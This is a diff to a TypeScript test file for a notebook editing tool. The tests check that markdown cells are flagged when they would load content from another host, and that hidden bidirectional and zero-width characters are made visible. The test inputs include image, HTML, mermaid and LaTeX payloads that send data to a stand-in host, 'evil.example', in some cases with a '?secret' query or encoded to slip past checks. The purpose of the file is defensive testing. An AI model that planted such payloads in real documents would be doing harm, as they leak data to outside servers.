@@ -146,10 +146,23 @@ test("a long notebook is listed in parts", async () => {
 test("a text that would load from elsewhere, or hides characters, is asked about each time", () => {
   const { prepare } = tools();
   const remark = (type: string, source: string) => prepare("add_cell", { type, source }).remark;
-  expect(remark("markdown", "![](https://evil.example/?secret)")).toContain("evil.example.");
-  expect(remark("markdown", "<img src=//evil.example/x>")).toContain("evil.example.");
-  expect(remark("markdown", "![a][b]\n\n[b]: http://evil.example:80/x")).toContain("evil.example");
-  expect(remark("markdown", "[A link](https://good.example/) 👩‍💻")).toBe("");
+  for (const source of [
+    "![](https://evil.example/?secret)",
+    "<img src=//evil.example/x>",
+    "![a][b]\n\n[b]: http://evil.example:80/x",
+    '<IMG\nsrc="\\\\evil.example/x">',
+    "```mermaid\nflowchart\n A@{ img: 'https://evil.example/x' }\n```",
+    "$\\style{background: url(https://evil.example/x)}{x}$",
+  ])
+    expect(remark("markdown", source), source).toMatch(/load something from evil\.example/);
+  for (const source of ["![](https&colon;&sol;&sol;evil)", '<img src="&#104;ttps:evil">', "![a]"])
+    expect(remark("markdown", source), source).toContain("load something from elsewhere");
+  for (const source of [
+    "[A link](https://good.example/) 👩‍💻",
+    "![A plot](images/plot-1.png) and ![](attachment:image.png)",
+    "a < b, <b>bold</b><br> and $x = \\frac{1}{2}$",
+  ])
+    expect(remark("markdown", source), source).toBe("");
   expect(remark("code", "x = 1\n\ty = 'é'")).toBe("");
   expect(remark("code", "x = 1 # \u202e evil")).toContain("not seen");
   expect(withSeenCharacters("a\u202eb\u200dc\n")).toBe("a⟨U+202E⟩b⟨U+200D⟩c\n");
